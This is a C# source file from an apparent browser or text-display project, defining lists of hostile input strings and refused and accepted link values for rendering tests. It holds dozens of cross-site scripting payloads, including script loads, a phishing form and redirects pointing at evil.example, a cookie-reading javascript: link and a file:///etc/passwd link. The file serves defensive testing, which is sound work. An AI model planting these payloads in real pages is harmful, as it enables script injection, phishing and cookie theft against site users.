namespace Textak.Browser;

/// <summary>What people type who mean no good. All of it is text, and is to be seen as it was typed.</summary>
public static class Hostile
{
    public static IReadOnlyList<string> Texts { get; } =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<img src=x onerror=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object>",
        "<a href='javascript:alert(1)'>click me, please</a>",
        "<form action='//evil.example'><button>Sign in again</button></form>",
        "<base href='//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>* { display: none !important }</style>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</p></article></main><h1>Hacked</h1>",
        "--><script>alert(1)</script><!--",
        "<!--<img src='--><img src=x onerror=alert(1)>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<x style='behavior:url(#x);position:fixed;inset:0'>over it all</x>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "javascript:alert(document.cookie)//",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)} #{alert(1)} @(alert(1))",
        "'; alert(1); var x='",
        "\"onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
        "A line ends\u2028here and\u2029there</script><b>bold</b>",
        "\u202eright to left from here \u2066and inside\u2069 again",
        "Z\u0351\u0321\u036b\u034da\u030a\u0357\u0313l\u0351\u0321\u036bg\u0313\u0357\u0351o\u0324\u034d\u0321 over the lines around",
        "𓀀😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 \u200b\u200d\ufeff nothing to see here",
        new string('W', 500),
        string.Concat(Enumerable.Repeat("ﷺ", 120)),
    ];

    /// <summary>What is typed where a link belongs: the first ones are refused, the others lead where they say.</summary>
    public static IReadOnlyList<string> RefusedLinks { get; } =
    [
        "javascript:alert(1)", " javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:x", "file:///etc/passwd", "//evil.example", "https://good.example@evil.example/", "https:///", "blob:https://x/1",
    ];

    public static IReadOnlyList<string> AcceptedLinks { get; } =
    [
        "https://evil.example/\"onmouseover=alert(1)+x=\"", "https://evil.example/'><script>alert(1)</script>", "http://evil.example/?q=<svg/onload=alert(1)>",
        $"https://{string.Concat(Enumerable.Repeat("long-label.", 20))}example/", "https://xn--e1awd7f.example/\u202e",
    ];
}
